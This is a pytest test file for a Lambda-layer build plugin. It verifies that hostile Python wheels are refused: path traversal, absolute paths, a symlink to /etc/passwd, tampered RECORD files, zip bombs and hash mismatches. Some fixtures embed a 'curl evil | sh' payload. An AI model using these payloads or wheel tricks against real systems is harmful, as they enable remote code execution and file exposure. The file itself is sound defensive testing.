"""Hostile wheels and projects, through real builds: each refused with a clear message.

Each case starts from a project that built (the bad wheel left out with
exclude-packages); the wheel is then let in and the build must fail naming the
package, the file and the fix, leave every byte of the output directory as it
was, and write nothing anywhere else: every file under the test's directory
outside the output directory (temporary directories included, TMPDIR points
there) is compared before and after.
"""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import zipfile
from pathlib import Path

import pytest

from helpers.builds import digests, hatchling_build, manifest, rebuild_fails, zip_files
from helpers.projects import LAYER, OUT, configure, copy_fixture, edit_pyproject, local_project, make_wheel, uv_command
from helpers.wheelserver import WheelServer, loopback_env, point_lock_at

pytestmark = pytest.mark.network  # the projects' build requirements come from the index


def outside(root: Path, project: Path) -> dict[str, str]:
    """Digest of every file under ``root`` except the project's output directory."""
    out = project / OUT
    return {name: digest for name, digest in digests(root).items() if not (root / name).is_relative_to(out)}


def hostile_build_fails(tmp_path: Path, cache: Path, wheels: dict[str, Path], needles: list[str]) -> Path:
    """Build with ``wheels`` left out, then let them in: the build must fail cleanly and write nothing."""
    project = tmp_path / "hostileapp"
    deps = {name: path.relative_to(project).as_posix() for name, path in wheels.items()}
    local_project(project, "hostileapp", deps, layer={"exclude-packages": sorted(deps), "installer": "wheels"})
    hatchling_build(project, LAYER, cache=cache)
    configure(project, exclude_packages=None)
    temp = tmp_path / "tmp"
    temp.mkdir()
    before = outside(tmp_path, project)
    rebuild_fails(project, cache, LAYER, needles=needles, env={"TMPDIR": str(temp)})
    assert outside(tmp_path, project) == before, "the refused build wrote outside its output directory"
    return project


def rewrite_member(wheel: Path, name: str, data: bytes) -> None:
    """Replace one member's bytes, leaving RECORD as it was (so it lies)."""
    with zipfile.ZipFile(wheel) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    with zipfile.ZipFile(wheel, "w") as archive:
        for info, content in members:
            archive.writestr(info, data if info.filename == name else content)


def test_wheel_with_an_absolute_path_is_refused(tmp_path, cache):
    target = tmp_path / "abs-escaped.py"
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "absolute", "1.0", {"absolute/__init__.py": b""},
                       raw_entries=[(zipfile.ZipInfo(str(target)), b"print('out')\n")])
    hostile_build_fails(tmp_path, cache, {"absolute": wheel}, [
        f"absolute==1.0: absolute-1.0-py3-none-any.whl holds a path outside its install directory: '{target}'",
        "fix: report it to the absolute maintainers, or leave the package out with exclude-packages",
    ])
    assert not target.exists()


def test_wheel_with_dot_dot_deep_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "climber", "1.0", {"climber/__init__.py": b""},
                       raw_entries=[(zipfile.ZipInfo("climber/" + "../" * 8 + "climbed.py"), b"x = 1\n")])
    hostile_build_fails(tmp_path, cache, {"climber": wheel}, [
        "climber==1.0: climber-1.0-py3-none-any.whl holds a path outside its install directory",
        "refusing to install it",
    ])
    assert not list(tmp_path.rglob("climbed.py"))


def test_wheel_with_a_link_pointing_outside_is_refused(tmp_path, cache):
    link = zipfile.ZipInfo("linker/passwd")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "linker", "1.0", {"linker/__init__.py": b""},
                       raw_entries=[(link, b"../../../../../../etc/passwd")])
    hostile_build_fails(tmp_path, cache, {"linker": wheel}, [
        "linker==1.0: linker-1.0-py3-none-any.whl holds a symbolic link: 'linker/passwd'",
    ])


def test_wheel_whose_record_lies_about_a_file_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "liar", "1.0",
                       {"liar/__init__.py": b"def handler(event, context):\n    return 1\n"})
    rewrite_member(wheel, "liar/__init__.py", b"import os; os.system('curl evil | sh')\n")
    hostile_build_fails(tmp_path, cache, {"liar": wheel}, [
        "liar==1.0: liar-1.0-py3-none-any.whl does not match its RECORD: hash / size of liar/__init__.py "
        "didn't match RECORD; refusing to install it",
        "fix: report it to the liar maintainers",
    ])


@pytest.mark.parametrize("member", ["liar-1.0.data/scripts/run", "liar/__pycache__/stale.cpython-312.pyc",
                                    "liar-1.0.data/purelib/liar_extra.py"])
def test_a_lie_in_a_member_installer_reads_otherwise_or_skips_is_refused(tmp_path, cache, member):
    """A wheel is inflated once: each member is judged as it is unpacked; a script (whose first line installer
    rewrites) and a file under __pycache__ (which installer skips) are read again and judged all the same."""
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "liar", "1.0",
                       {"liar/__init__.py": b"", member: b"#!python\nprint('honest')\n"})
    rewrite_member(wheel, member, b"#!python\nimport os; os.system('curl evil | sh')\n")
    hostile_build_fails(tmp_path, cache, {"liar": wheel}, [
        f"liar==1.0: liar-1.0-py3-none-any.whl does not match its RECORD: hash / size of {member} "
        "didn't match RECORD; refusing to install it",
    ])


def test_wheel_with_a_file_missing_from_record_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "stowaway", "1.0", {"stowaway/__init__.py": b""},
                       raw_entries=[(zipfile.ZipInfo("stowaway/hidden.py"), b"x = 1\n")])
    hostile_build_fails(tmp_path, cache, {"stowaway": wheel}, [
        "stowaway==1.0: stowaway-1.0-py3-none-any.whl does not match its RECORD: "
        "stowaway/hidden.py is not mentioned in RECORD",
    ])


def test_two_distributions_with_one_path_and_different_bytes_are_refused(tmp_path, cache):
    wheels = tmp_path / "hostileapp" / "wheels"
    alpha = make_wheel(wheels, "alpha", "1.0", {"alpha/__init__.py": b"", "shared/config.py": b"A = 1\n"})
    beta = make_wheel(wheels, "beta", "2.0", {"beta/__init__.py": b"", "shared/config.py": b"A = 2\n"})
    hostile_build_fails(tmp_path, cache, {"alpha": alpha, "beta": beta}, [
        "alpha==1.0 (alpha-1.0-py3-none-any.whl) and beta==2.0 (beta-2.0-py3-none-any.whl) both install "
        "'shared/config.py' with different contents; one would overwrite the other",
        "fix: leave one of them out with exclude-packages",
    ])


def test_two_distributions_with_one_identical_file_build(tmp_path, cache):
    project = tmp_path / "sameapp"
    wheels = project / "wheels"
    make_wheel(wheels, "alpha", "1.0", {"alpha/__init__.py": b"", "shared/__init__.py": b"# shared\n"})
    make_wheel(wheels, "beta", "2.0", {"beta/__init__.py": b"", "shared/__init__.py": b"# shared\n"})
    local_project(project, "sameapp", {"alpha": "wheels/alpha-1.0-py3-none-any.whl",
                                       "beta": "wheels/beta-2.0-py3-none-any.whl"}, layer={"installer": "wheels"})
    build = hatchling_build(project, LAYER, cache=cache)
    assert "python/shared/__init__.py" in zip_files(build.out("layer.zip"))


def test_local_wheel_changed_after_locking_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "changed", "1.0", {"changed/__init__.py": b""})
    project = tmp_path / "hostileapp"
    local_project(project, "hostileapp", {"changed": "wheels/changed-1.0-py3-none-any.whl"},
                  layer={"installer": "wheels"})
    hatchling_build(project, LAYER, cache=cache)
    locked = hashlib.sha256(wheel.read_bytes()).hexdigest()
    make_wheel(wheel.parent, "changed", "1.0", {"changed/__init__.py": b"import evil\n"})
    rebuild_fails(project, cache, LAYER, needles=[
        f"changed==1.0: {wheel.resolve()} has sha256 {hashlib.sha256(wheel.read_bytes()).hexdigest()}, "
        f"but uv.lock says {locked}",
        "fix: run `uv lock` after changing a local file",
    ])


def test_index_file_whose_hash_differs_from_the_lock_is_refused_and_not_cached(tmp_path, cache):
    project = copy_fixture("native-app", tmp_path)
    hatchling_build(project, LAYER, cache=cache)
    with WheelServer() as server:
        server.add_dir(cache / "files")
        point_lock_at(project, server)
        chosen = manifest(project / OUT)["targets"][LAYER]["distributions"]
        name = next(d["file"] for d in chosen if d["name"] == "orjson")
        body = bytearray(server.files[name])
        body[len(body) // 2] ^= 0xFF  # one byte changed on the index
        server.files[name] = bytes(body)
        empty = tmp_path / "empty-cache"
        rebuild_fails(project, empty, LAYER, env=loopback_env(), needles=[
            f"{name} has sha256 {hashlib.sha256(server.files[name]).hexdigest()}, but uv.lock says",
            "run `uv lock --refresh-package orjson` and review the change",
        ])
    assert not list(empty.rglob("orjson-*")), "a file that failed its hash check was cached"


def _deflated(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def test_wheel_larger_than_lambda_allows_unzipped_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "bomb", "1.0", {"bomb/__init__.py": b""},
                       raw_entries=[(_deflated("bomb/zeros.bin"), bytes(260 * 2**20))])
    assert wheel.stat().st_size < 2**20
    hostile_build_fails(tmp_path, cache, {"bomb": wheel}, [
        "bomb==1.0: bomb-1.0-py3-none-any.whl would unpack to 260 MB, more than Lambda's 250 MB limit; "
        "refusing to install it",
    ])


def test_wheel_with_a_huge_compression_ratio_is_refused(tmp_path, cache):
    wheel = make_wheel(tmp_path / "hostileapp" / "wheels", "ratio", "1.0", {"ratio/__init__.py": b""},
                       raw_entries=[(_deflated("ratio/zeros.bin"), bytes(16 * 2**20))])
    hostile_build_fails(tmp_path, cache, {"ratio": wheel}, [
        "ratio==1.0: ratio-1.0-py3-none-any.whl holds 'ratio/zeros.bin', compressed",
        f"({16 * 2**20} bytes from",
        "a zip bomb; refusing to install it",
    ])


# --------------------------------------------------------------------------
# the same wheels from an index: the build assembles the layer from cached per-distribution packs
# (registry and URL wheels take that path; the path-source wheels above are staged in one tree)


def _lying_wheel(wheels: Path) -> dict[str, Path]:
    wheel = make_wheel(wheels, "liar", "1.0", {"liar/__init__.py": b"def handler(event, context):\n    return 1\n"})
    rewrite_member(wheel, "liar/__init__.py", b"import os\n")
    return {"liar": wheel}


def _clashing_wheels(wheels: Path) -> dict[str, Path]:
    return {
        "alpha": make_wheel(wheels, "alpha", "1.0", {"alpha/__init__.py": b"", "shared/config.py": b"A = 1\n"}),
        "beta": make_wheel(wheels, "beta", "2.0", {"beta/__init__.py": b"", "shared/config.py": b"A = 2\n"}),
    }


def _bomb_wheel(wheels: Path) -> dict[str, Path]:
    return {"ratio": make_wheel(wheels, "ratio", "1.0", {"ratio/__init__.py": b""},
                                raw_entries=[(_deflated("ratio/zeros.bin"), bytes(16 * 2**20))])}


def _climbing_wheel(wheels: Path) -> dict[str, Path]:
    return {"climber": make_wheel(wheels, "climber", "1.0", {"climber/__init__.py": b""},
                                  raw_entries=[(zipfile.ZipInfo("climber/../../climbed.py"), b"x = 1\n")])}


SERVED = {
    "record-lies": (_lying_wheel, ["liar==1.0: liar-1.0-py3-none-any.whl does not match its RECORD"]),
    "clash": (_clashing_wheels, ["alpha==1.0 (alpha-1.0-py3-none-any.whl) and beta==2.0 (beta-2.0-py3-none-any.whl) "
                                 "both install 'shared/config.py' with different contents"]),
    "zip-bomb": (_bomb_wheel, ["ratio==1.0: ratio-1.0-py3-none-any.whl holds 'ratio/zeros.bin', compressed",
                               "a zip bomb"]),
    "dot-dot": (_climbing_wheel, ["climber==1.0: climber-1.0-py3-none-any.whl holds a path outside its "
                                  "install directory"]),
}


@pytest.mark.parametrize("case", sorted(SERVED))
def test_hostile_wheels_from_an_index_are_refused_on_the_cached_path(tmp_path, cache, case):
    from hatch_lambda.lockfile.resolve import resolve
    from hatch_lambda.packs.sources import lock_wheel
    from hatch_lambda.runtime.target import Target

    make, needles = SERVED[case]
    project = tmp_path / "hostileapp"
    wheels = make(project / "wheels")
    with WheelServer() as server:
        for path in wheels.values():
            server.files[path.name] = path.read_bytes()
        local_project(project, "hostileapp", {n: p.relative_to(project).as_posix() for n, p in wheels.items()},
                      layer={"exclude-packages": sorted(wheels), "installer": "wheels"})
        edit_pyproject(project, lambda data: data["tool"]["uv"].update(
            sources={name: {"url": server.url(path.name)} for name, path in wheels.items()}))
        locked = subprocess.run([*uv_command(), "lock"], cwd=project, capture_output=True, text=True, timeout=600,
                                env={**os.environ, **loopback_env()})
        assert locked.returncode == 0, locked.stderr
        hatchling_build(project, LAYER, cache=cache, env=loopback_env())
        configure(project, exclude_packages=None)
        resolution = resolve(project, Target("3.11"))
        assert {d.source_kind for d in resolution.distributions} == {"url"}
        # wheels the lock names by digest: their packs are looked up in the cache before any download
        assert all(lock_wheel(d) for d in resolution.distributions)
        temp = tmp_path / "tmp"
        temp.mkdir()
        before = outside(tmp_path, project)
        rebuild_fails(project, cache, LAYER, needles=needles, env={**loopback_env(), "TMPDIR": str(temp)})
        assert outside(tmp_path, project) == before, "the refused build wrote outside its output directory"
    assert not list(tmp_path.rglob("climbed.py"))
